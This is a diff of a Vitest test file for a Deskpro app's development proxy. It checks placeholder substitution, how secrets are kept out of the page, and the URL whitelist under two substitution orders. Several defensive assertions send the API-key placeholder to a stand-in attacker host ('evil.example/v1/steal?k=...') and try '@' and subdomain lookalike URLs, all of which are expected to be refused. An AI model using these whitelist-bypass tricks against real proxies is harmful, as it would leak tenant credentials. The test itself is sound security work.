@@ -1,19 +1,22 @@
 /**
- * The development host's app proxy, driven by the SDK's real proxyFetch and adminGenericProxyFetch:
- * tokens, the built manifest's whitelist, placeholder substitution on the server side, timeouts.
+ * The development host's app proxy, driven by the SDK's real proxyFetch and adminGenericProxyFetch
+ * under each order Deskpro might fill placeholders in (before or after checking the whitelist):
+ * tokens, the packaged manifest's whitelist, placeholder substitution on the server side, timeouts.
  */
 import { adminGenericProxyFetch, proxyFetch } from "@deskpro/app-sdk/esm/proxy/helpers.js";
 import { serve, type ServerType } from "@hono/node-server";
 import { Hono } from "hono";
-import { mkdtempSync, rmSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { join, resolve } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { ManifestProxy } from "../../src/devhost/proxy.js";
+import { packagedManifest } from "../../scripts/package.js";
+import { findRule, ManifestProxy, PlaceholderOrder, substituteSettings, type WhitelistRule } from "../../src/devhost/proxy.js";
 import { hostServer } from "../../src/devhost/server.js";
 import { openHostStore } from "../../src/devhost/store.js";
 
 const SECRET = "tenant-key-that-must-stay-on-the-server";
+const ROOT = resolve(import.meta.dirname, "../..");
 
 /** A stand-in upstream that echoes what reached it. */
 function upstream() {
@@ -34,7 +37,9 @@ function listen(app: Hono): Promise<{ server: ServerType; url: string }> {
   });
 }
 
-describe("the development host's app proxy", () => {
+const ORDERS = PlaceholderOrder.options;
+
+describe.each(ORDERS)("the development host's app proxy, filling placeholders in %s", (order) => {
   let up: { server: ServerType; url: string };
   let host: { server: ServerType; url: string };
   let dir: string;
@@ -54,17 +59,14 @@ describe("the development host's app proxy", () => {
     dir = mkdtempSync(join(tmpdir(), "devhost-proxy-"));
     const store = openHostStore(join(dir, "devhost.json"));
     store.state.settings = { ledger_url: up.url, ledger_api_key: SECRET, team_name: "Blue & Green" };
-    const escaped = up.url.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+    // The manifest as `npm run package` builds it for this ledger, plus a rule with a short timeout.
+    const packaged = packagedManifest(JSON.parse(readFileSync(join(ROOT, "manifest.json"), "utf8")), new URL(up.url));
     const manifest = ManifestProxy.parse({
-      settings: { ledger_url: {}, ledger_api_key: { isBackendOnly: true }, team_name: {} },
-      proxy: {
-        whitelist: [
-          { url: `^${escaped}/v1/.*$`, methods: ["GET", "POST"], timeout: 5 },
-          { url: `^${escaped}/slow/.*$`, methods: ["GET"], timeout: 1 },
-        ],
-      },
+      ...packaged,
+      settings: { ...packaged.settings, team_name: {} },
+      proxy: { whitelist: [...packaged.proxy.whitelist, { url: "^__ledger_url__/slow/.*$", methods: ["GET"], timeout: 1 }] },
     });
-    host = await listen(hostServer({ store, manifest, appDir: dir, pageDir: dir }));
+    host = await listen(hostServer({ store, manifest, appDir: dir, pageDir: dir, proxyOrder: order }));
   });
   afterAll(async () => {
     host?.server.close();
@@ -72,7 +74,7 @@ describe("the development host's app proxy", () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  it("substitutes settings (plain and urlencoded) on the server and forwards whitelisted requests", async () => {
+  it("forwards the sidebars' requests, written with the placeholders, with settings (plain and urlencoded) filled in on the server", async () => {
     const fetchViaProxy = await proxyFetch(client as never);
     const response = await fetchViaProxy("__ledger_url__/v1/things?team=__team_name.urlencode__", {
       method: "POST",
@@ -84,6 +86,17 @@ describe("the development host's app proxy", () => {
     expect(echoed).toMatchObject({ method: "POST", path: "/v1/things", authorization: `Bearer ${SECRET}` });
     expect(echoed.query.team).toBe("Blue & Green");
     expect(JSON.parse(echoed.body)).toEqual({ team: "Blue & Green" });
+  });
+
+  it("forwards the settings page's requests: the URL as typed, the key as typed or by its placeholder", async () => {
+    const fetchViaProxy = await adminGenericProxyFetch(client as never);
+    const typed = await fetchViaProxy(`${up.url}/v1/config`, { headers: { Authorization: "Bearer typed-key" } });
+    expect(((await typed.json()) as { authorization: string }).authorization).toBe("Bearer typed-key");
+    // An empty key field after a reload: the saved key, filled in by the proxy.
+    const saved = await fetchViaProxy(`${up.url}/v1/config`, { headers: { Authorization: "Bearer __ledger_api_key__" } });
+    expect(((await saved.json()) as { authorization: string }).authorization).toBe(`Bearer ${SECRET}`);
+    const elsewhere = await fetchViaProxy("https://evil.example/v1/config", { headers: { Authorization: "Bearer __ledger_api_key__" } });
+    expect(elsewhere.status).toBe(403);
   });
 
   it("never sends backend-only settings to the page", async () => {
@@ -98,12 +111,11 @@ describe("the development host's app proxy", () => {
     const elsewhere = await fetchViaProxy("https://evil.example/v1/steal?k=__ledger_api_key__", { headers: {} });
     expect(elsewhere.status).toBe(403);
     expect(await elsewhere.text()).not.toContain(SECRET);
-    const outside = await fetchViaProxy("__ledger_url__/admin", {});
-    expect(outside.status).toBe(403);
-    const method = await fetchViaProxy("__ledger_url__/v1/things", { method: "PUT", headers: {}, body: "{}" });
+    for (const url of ["__ledger_url__/admin", "__ledger_url__.evil.example/v1/x", "__ledger_url__@evil.example/v1/x", `${up.url}@evil.example/v1/things`]) {
+      expect((await fetchViaProxy(url, {})).status, url).toBe(403);
+    }
+    const method = await fetchViaProxy("__ledger_url__/v1/things", { method: "DELETE", headers: {} });
     expect(method.status).toBe(403);
-    const lookalike = await fetchViaProxy(`${up.url}@evil.example/v1/things`, {});
-    expect(lookalike.status).toBe(403);
   });
 
   it("takes only POST with a valid token for its own proxy", async () => {
@@ -127,12 +139,32 @@ describe("the development host's app proxy", () => {
     expect(response.status).toBe(504);
     expect(((await response.json()) as { code: string }).code).toBe("upstream_timeout");
   });
+});
 
-  it("the admin proxy forwards typed values as they are, substituting nothing", async () => {
-    const fetchViaProxy = await adminGenericProxyFetch(client as never);
-    const typed = await fetchViaProxy(`${up.url}/v1/check`, { headers: { Authorization: "Bearer typed-key" } });
-    expect(((await typed.json()) as { authorization: string }).authorization).toBe("Bearer typed-key");
-    const placeholder = await fetchViaProxy(`${up.url}/v1/check`, { headers: { Authorization: "Bearer __ledger_api_key__" } });
-    expect(((await placeholder.json()) as { authorization: string }).authorization).toBe("Bearer __ledger_api_key__");
+describe("one whitelist for either order", () => {
+  const ledger = "https://credits.example.com";
+  const settings = { ledger_url: ledger, ledger_api_key: SECRET };
+  const packaged = ManifestProxy.parse(packagedManifest(JSON.parse(readFileSync(join(ROOT, "manifest.json"), "utf8")), new URL(ledger)));
+  const sidebar = "__ledger_url__/v1/wallets/org%3A42";
+  const settingsPage = `${ledger}/v1/config`;
+  /** Whether the proxy would forward this request, in each order. */
+  const accepts = (whitelist: WhitelistRule[], url: string) =>
+    Object.fromEntries(
+      ORDERS.map((order) => {
+        const rules = order === "substitute-then-match" ? whitelist.map((r) => ({ ...r, url: substituteSettings(r.url, settings) })) : whitelist;
+        const checked = order === "substitute-then-match" ? substituteSettings(url, settings) : url;
+        return [order, findRule(rules, checked, "GET") !== null];
+      }),
+    );
+
+  it("lets the app's requests through whichever order Deskpro uses", () => {
+    for (const url of [sidebar, settingsPage])
+      expect(accepts(packaged.proxy.whitelist, url), url).toEqual({ "substitute-then-match": true, "match-then-substitute": true });
+  });
+
+  it("would lose the sidebars under one order with only the fixed address, or only the placeholder", () => {
+    const [fixed, placeholder] = packaged.proxy.whitelist;
+    expect(accepts([fixed!], sidebar)).toEqual({ "substitute-then-match": true, "match-then-substitute": false });
+    expect(accepts([placeholder!], settingsPage)["match-then-substitute"]).toBe(false);
   });
 });
